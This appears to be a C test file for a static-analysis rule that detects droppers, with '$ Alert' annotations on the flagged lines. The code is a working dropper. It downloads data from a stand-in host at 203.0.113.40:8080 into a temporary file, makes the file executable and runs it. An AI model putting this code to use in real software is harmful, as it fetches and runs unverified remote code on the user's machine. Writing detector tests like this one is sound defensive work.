/*
 * behavior.dropper through a temporary file: the update is received from a
 * socket into a file made by mkstemp, marked executable by its name and
 * run. The descriptor mkstemp returns is a file like one from open().
 */
#include <netinet/in.h>
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static int dial(const char *host)
{
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(8080);
    inet_pton(AF_INET, host, &a.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof a) != 0) {
        close(s);
        return -1;
    }
    return s;
}

int main(void)
{
    char tmpl[] = "/tmp/updXXXXXX";
    int fd = mkstemp(tmpl);
    int s = dial("203.0.113.40");
    if (fd < 0 || s < 0)
        return 1;
    char buf[4096];
    ssize_t n;
    while ((n = recv(s, buf, sizeof buf, 0)) > 0)
        write(fd, buf, (size_t)n);
    close(fd);
    close(s);
    chmod(tmpl, 0755); // $ Alert[behavior.dropper]
    execl(tmpl, "upd", (char *)NULL); // $ Alert[behavior.dropper]
    return 1;
}
